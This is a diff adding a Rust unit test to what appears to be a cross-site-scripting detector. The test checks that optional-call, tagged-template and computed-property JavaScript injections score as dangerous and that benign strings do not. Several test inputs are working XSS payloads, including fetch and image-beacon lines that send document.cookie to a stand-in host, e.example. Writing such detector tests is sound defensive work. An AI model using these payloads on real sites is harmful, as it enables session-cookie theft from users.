@@ -920,3 +920,30 @@ fn a_handler_name_as_a_json_key_is_data() {
         assert!(at(v, FieldKind::JsonKey, Level::Balanced) >= 60, "{v}");
     }
 }
+
+#[test]
+fn calls_without_parentheses_and_computed_properties_are_sinks() {
+    // Written for this rule: optional calls, computed `document` properties, tagged templates.
+    for v in [
+        "alert?.(1)",
+        "x=1;confirm?.(document.domain)//",
+        "\";alert?.(1);//",
+        "x=document['cookie'];",
+        "';fetch('//e.example/?'+document[`cookie`])//",
+        "alert`1`",
+    ] {
+        assert!(conf(v) >= 60, "{v}: {}", conf(v));
+    }
+    // Computed or dotted, the same property.
+    for (a, b) in [
+        ("document[\"cookie\"]", "document.cookie"),
+        ("x=document['domain'];", "x=document.domain;"),
+        ("';new Image().src='//e.example/?'+document[\"cookie\"]//", "';new Image().src='//e.example/?'+document.cookie//"),
+    ] {
+        assert_eq!(conf(a), conf(b), "{a}");
+        assert!(conf(a) > 0, "{a}");
+    }
+    for v in ["user?.name", "document[\"title\"]", "a ?. (b)", "what?.(maybe)", "document['readyState']"] {
+        assert!(conf(v) < 60, "{v}: {}", conf(v));
+    }
+}
